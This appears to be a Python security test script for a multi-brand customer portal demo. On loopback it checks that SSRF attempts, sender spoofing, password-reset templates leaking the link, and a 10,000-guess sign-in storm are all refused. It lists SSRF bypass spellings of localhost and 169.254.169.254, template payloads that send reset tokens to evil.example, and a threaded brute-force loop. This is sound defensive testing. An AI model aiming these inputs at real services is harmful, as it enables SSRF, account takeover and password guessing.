#!/usr/bin/env python3
"""Scripted attacks on a running demo, on loopback: what a hostile owner, admin or stranger would try.

Starts `portal demo` (sandbox upstreams, as the demo always runs) on a temporary data folder with ten brands and
127.0.0.1 as a trusted proxy, so each request can say which client address it comes from. Then, as plain HTTP
(no browser):
- SSRF: the demo owner saves upstream and relay addresses in every spelling that names this machine (hex, decimal,
  short IPv4, IPv6 forms, IPv4-mapped, NAT64) and a name ("127.0.0.1.nip.io") that resolves to it; each is refused
  with nothing stored, and "Test connection" names only the host, never what the network said.
- A spoofed sender: the brand's sender set to the platform's own domain or another brand's; mail goes out as the
  brand's own no-reply address.
- A template that leaks its link: the reset email with the link in an image address, a style or another link is
  refused; the reset that goes out carries the link only in the portal's button on the brand's own host.
- A storm: 10,000 sign-ins from one IPv6 /64 across ten brands while the demo owner signs in from their usual
  address. Every storm answer is 401 or 429 (never an error), almost all are 429 (the /64 backs off), and the
  owner gets in every time. The owner's sign-in times are printed; they are measured here, not asserted
  (`make bench` reports them from a release build).

Usage: attack-test.py [--storm-only]   (PORTAL_BIN picks the binary; --storm-only runs only the storm, for bench)
"""
import base64
import concurrent.futures
import hashlib
import hmac
import html.parser
import os
import random
import re
import shutil
import sqlite3
import struct
import sys
import tempfile
import time

import demo_server
from demo_server import Client

RESULTS = {"passed": 0, "failed": 0}
BRANDS = ["acme", "globex"] + ["brand%d" % index for index in range(1, 9)]
OWNER_HOME = "198.51.100.7"
STORM_NETWORK = "2001:db8:bad:1"
STORM_SIZE = 10_000


def check(condition, label):
    RESULTS["passed" if condition else "failed"] += 1
    print("  %s %s" % ("ok  " if condition else "FAIL", label))
    return bool(condition)


class FormFields(html.parser.HTMLParser):
    """The current values of one form's fields, as a browser would send them."""

    def __init__(self, form_id):
        super().__init__()
        self.form_id, self.inside, self.fields, self.textarea, self.select = form_id, False, {}, None, None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form":
            self.inside = attrs.get("id") == self.form_id
        if not self.inside:
            return
        if tag == "input" and attrs.get("name"):
            kind = attrs.get("type", "text")
            if kind in ("radio", "checkbox") and "checked" not in attrs:
                return
            if kind != "file":
                self.fields[attrs["name"]] = attrs.get("value", "")
        elif tag == "textarea":
            self.textarea = attrs.get("name")
            self.fields[self.textarea] = ""
        elif tag == "select":
            self.select = attrs.get("name")
        elif tag == "option" and self.select and "selected" in attrs:
            self.fields[self.select] = attrs.get("value", "")

    def handle_endtag(self, tag):
        if tag == "form":
            self.inside = False
        elif tag == "textarea":
            self.textarea = None
        elif tag == "select":
            self.select = None

    def handle_data(self, data):
        if self.textarea:
            self.fields[self.textarea] += data


def form_fields(page, form_id):
    parser = FormFields(form_id)
    parser.feed(page)
    return {name: html_unescape(value) for name, value in parser.fields.items()}


def html_unescape(text):
    import html
    return html.unescape(text)


def totp(secret, at=None):
    key = base64.b32decode(secret.replace(" ", "").upper() + "=" * (-len(secret.replace(" ", "")) % 8))
    counter = int((at or time.time()) // 30)
    digest = hmac.new(key, struct.pack(">Q", counter), hashlib.sha1).digest()
    offset = digest[-1] & 0x0F
    return "%06d" % ((struct.unpack(">I", digest[offset:offset + 4])[0] & 0x7FFFFFFF) % 1000000)


def start(data_dir):
    return demo_server.start(data_dir, extra_brands=BRANDS[2:], arguments=["--trusted-proxy", "127.0.0.1/32"])


def owner_session(port):
    """The acme demo owner, signed in from their usual address with two-factor enrolled."""
    owner = Client(port, "acme.localhost", OWNER_HOME)
    owner.get("/admin/login")
    status, headers, _ = owner.post("/admin/login", {"email": "owner@acme.example", "password": "acme-owner-demo"})
    location = headers.get("Location", "/admin")
    for _ in range(5):
        status, headers, page = owner.get(location)
        if status != 303:
            break
        location = headers.get("Location", "/admin")
    secret = re.search(r'<code class="secret">([^<]+)</code>', page)
    if secret:
        owner.post(location, {"code": totp(secret.group(1))})
    return owner


def whm_url(page):
    match = re.search(r'name="whm_url"[^>]*value="([^"]*)"', page)
    return match.group(1) if match else None


def ssrf(port):
    print("SSRF: addresses that name this machine")
    owner = owner_session(port)
    status, _, page = owner.get("/admin/integrations")
    check(status == 200, "the owner reaches the integrations page")
    before = whm_url(page)
    spellings = ["https://0x7f.1", "https://[0::1]", "https://[0:0:0:0:0:0:0:1]", "https://[::ffff:7f00:1]",
                 "https://2130706433", "https://127.1", "https://017700000001", "https://[64:ff9b::7f00:1]",
                 "https://localhost.", "https://169.254.169.254", "https://10.0.0.1"]
    for address in spellings:
        owner.get("/admin/integrations")
        status, _, page = owner.post("/admin/integrations", {
            "mode": "live", "whmcs_url": "", "whmcs_identifier": "", "whmcs_secret": "", "whmcs_group": "",
            "whm_url": address + ":2087", "whm_user": "acmeres", "whm_token": "TOKEN", "nameservers": ""})
        check(status == 422 and "not this machine or a private network" in page,
              "live WHM at %s is refused with the reason beside the field" % address)
    _, _, page = owner.get("/admin/integrations")
    check(whm_url(page) == before, "nothing of the refused addresses was stored (WHM is still %s)" % before)

    # A name that resolves to this machine (or not at all, offline): saved as a name, refused on connection.
    status, _, _ = owner.post("/admin/integrations", {
        "mode": "live", "whmcs_url": "", "whmcs_identifier": "", "whmcs_secret": "", "whmcs_group": "",
        "whm_url": "https://127.0.0.1.nip.io:2087", "whm_user": "acmeres", "whm_token": "TOKEN", "nameservers": ""})
    check(status == 303, "a public-looking name is accepted when saved")
    owner.get("/admin/integrations")
    _, _, page = owner.post("/admin/integrations/test", {})
    check("could not connect to 127.0.0.1.nip.io" in page, "Test connection says only 'could not connect' and the name")
    leaks = [word for word in ("refused", "timed out", "TLS", "HTTP 4", "HTTP 5", "loopback", "Name or service")
             if word in page]
    check(not leaks, "and nothing of what the network said (%s)" % ", ".join(leaks or ["none"]))

    # The brand is live now: its own relay may not be on this machine either, in any spelling.
    for relay in ["smtp://0x7f.1:2525", "smtp://[::ffff:7f00:1]:2525", "smtp://127.1:25", "smtp://[0::1]:587"]:
        owner.get("/admin/mail/settings")
        status, _, page = owner.post("/admin/mail/settings", {
            "relay_url": relay, "relay_user": "", "relay_password": "", "time_zone": "Europe/London"})
        check(status == 422, "the relay %s is refused" % relay)
    return owner


def spoofed_sender(port, owner, data_dir):
    print("Sender: the brand cannot send as the platform or another brand")
    # Two tries: a customer may ask for three resets an hour, and the template check below sends the third.
    for spoof in ["admin@platform.localhost", "billing@globex.localhost"]:
        _, _, page = owner.get("/admin/brand")
        fields = form_fields(page, "brand-form")
        fields["sender_email"] = spoof
        status, _, _ = owner.post("/admin/brand", fields)
        owner.get("/admin/brand")
        publish, _, _ = owner.post("/admin/brand/publish", {"force": "1"})
        check(status in (200, 303) and publish in (200, 303),
              "the brand saves and publishes sender %s (%d, %d)" % (spoof, status, publish))
        customer = Client(port, "acme.localhost", "192.0.2.%d" % random.randint(2, 250))
        customer.get("/forgot-password")
        customer.post("/forgot-password", {"email": "customer@acme.example"})
        row = newest_mail(data_dir, "acme", "reset_password")
        check(row is not None and row[0].startswith("no-reply@") and "acme" in row[0],
              "the reset goes out from the brand's own no-reply address, not %s (from %s)" % (spoof, row and row[0]))


def newest_mail(data_dir, slug, kind):
    database = sqlite3.connect("file:%s?mode=ro" % os.path.join(data_dir, slug, "tenant.sqlite"), uri=True)
    try:
        return database.execute(
            "SELECT from_address, html_body, text_body FROM mail_outbox WHERE kind = ? ORDER BY id DESC LIMIT 1",
            (kind,)).fetchone()
    finally:
        database.close()


def leaking_template(port, owner, data_dir):
    print("Templates: a security email cannot carry its link anywhere but the portal's button")
    for html_part in ['<p><img src="https://evil.example/?t={{link}}"></p>', '<p><a href="{{link}}">Reset</a></p>',
                      '<p style="background:url({{link}})">Hi</p>', '<p><a href="https://evil.example/">{{link}}</a></p>',
                      '<style>p { background: url({{link}}) }</style><p>{{link}}</p>']:
        owner.get("/admin/brand/emails/password_reset")
        status, _, page = owner.post("/admin/brand/emails/password_reset", {
            "subject": "Reset", "html": html_part, "text": "Reset: {{link}}"})
        check(status == 422, "refused: %s" % html_part)
    owner.get("/admin/brand/emails/password_reset")
    status, _, _ = owner.post("/admin/brand/emails/password_reset", {
        "subject": "Reset your password", "html": "<p>Here you go:</p><p>{{link}}</p>", "text": "Here: {{link}}"})
    check(status == 303, "a template with the link on its own is saved")
    customer = Client(port, "acme.localhost", "192.0.2.77")
    customer.get("/forgot-password")
    customer.post("/forgot-password", {"email": "customer@acme.example"})
    row = newest_mail(data_dir, "acme", "reset_password")
    buttons = re.findall(r'<a class="button" href="([^"]+)">', (row and row[1]) or "")
    check(len(buttons) == 1 and re.match(r"https?://[a-z.]*acme[a-z.]*(:\d+)?/reset-password\?token=", buttons[0] or ""),
          "the reset email's only link is the portal's button on the brand's host (%s)" % (buttons or "none"))
    check("evil.example" not in ((row and row[1]) or ""), "and nothing points elsewhere")


def storm(port, attempts=STORM_SIZE, workers=32):
    """10,000 wrong sign-ins from one /64 over ten brands, while the owner signs in from home; returns figures."""
    print("Storm: %d sign-ins from %s::/64 across %d brands, the owner signing in meanwhile" %
          (attempts, STORM_NETWORK, len(BRANDS)))
    # The owner has signed in from home before: that is what makes it their usual address.
    home = Client(port, "acme.localhost", OWNER_HOME)
    home.get("/admin/login")
    home.post("/admin/login", {"email": "owner@acme.example", "password": "acme-owner-demo"})
    statuses, owner_times, owner_ok = {}, [], []
    stop = [False]

    def attack(indices):
        """One attacker thread: one brand's sign-in form, then guess after guess, each from another host of the /64."""
        brand = BRANDS[indices[0] % len(BRANDS)]
        client = Client(port, "%s.localhost" % brand)
        client.get("/admin/login")
        answers = []
        for index in indices:
            client.address = "%s:%x:%x:%x:%x" % (STORM_NETWORK, random.getrandbits(16), random.getrandbits(16),
                                                 random.getrandbits(16), index & 0xFFFF)
            status, _, _ = client.post("/admin/login", {"email": "owner@%s.example" % brand,
                                                        "password": "guess %d" % index})
            answers.append(status)
        return answers

    def owner_loop():
        # At most 40 sign-ins: with the two before the storm, well inside the 100 requests an address may make in 15
        # minutes however slow the machine makes the storm.
        while not stop[0] and len(owner_times) < 40:
            client = Client(port, "acme.localhost", OWNER_HOME)
            client.get("/admin/login")
            started = time.monotonic()
            status, headers, _ = client.post(
                "/admin/login", {"email": "owner@acme.example", "password": "acme-owner-demo"})
            owner_times.append(time.monotonic() - started)
            owner_ok.append(status == 303 and "/admin" in headers.get("Location", ""))
            time.sleep(0.2)

    with concurrent.futures.ThreadPoolExecutor(max_workers=workers + 1) as pool:
        owner_future = pool.submit(owner_loop)
        started = time.monotonic()
        # Each thread keeps to one brand; threads are spread over the ten brands.
        batches = [[index for index in range(attempts) if index % (workers) == thread] for thread in range(workers)]
        for answers in pool.map(attack, batches):
            for status in answers:
                statuses[status] = statuses.get(status, 0) + 1
        elapsed = time.monotonic() - started
        stop[0] = True
        owner_future.result()
    owner_times.sort()
    figures = {
        "attempts": attempts, "seconds": elapsed, "statuses": statuses, "owner_signins": len(owner_times),
        "owner_ok": sum(owner_ok), "owner_p50": owner_times[len(owner_times) // 2] if owner_times else None,
        "owner_max": owner_times[-1] if owner_times else None,
    }
    print("  storm answers: %s in %.1f s; owner signed in %d/%d times, p50 %.0f ms, max %.0f ms" % (
        ", ".join("%s×%d" % (code, count) for code, count in sorted(statuses.items())), elapsed,
        figures["owner_ok"], figures["owner_signins"], 1000 * (figures["owner_p50"] or 0),
        1000 * (figures["owner_max"] or 0)))
    return figures


def main():
    storm_only = "--storm-only" in sys.argv
    data_dir = tempfile.mkdtemp(prefix="portal-attack-")
    server, port = start(data_dir)
    try:
        if not storm_only:
            owner = ssrf(port)
            spoofed_sender(port, owner, data_dir)
            leaking_template(port, owner, data_dir)
        figures = storm(port)
        check(set(figures["statuses"]) <= {401, 429}, "every storm answer is 401 or 429, never an error")
        check(figures["statuses"].get(429, 0) >= 0.9 * figures["attempts"],
              "the /64 backs off: at least 90%% of the storm is refused before any password check")
        check(figures["owner_signins"] > 0 and figures["owner_ok"] == figures["owner_signins"],
              "the owner signed in every time during the storm")
        if storm_only:
            print("BENCH owner_signin_p50_ms=%.1f owner_signin_max_ms=%.1f storm_seconds=%.1f" % (
                1000 * (figures["owner_p50"] or 0), 1000 * (figures["owner_max"] or 0), figures["seconds"]))
    finally:
        demo_server.stop(server)
        shutil.rmtree(data_dir, ignore_errors=True)
    print("attack check: %d passed, %d failed" % (RESULTS["passed"], RESULTS["failed"]))
    sys.exit(1 if RESULTS["failed"] else 0)


if __name__ == "__main__":
    main()
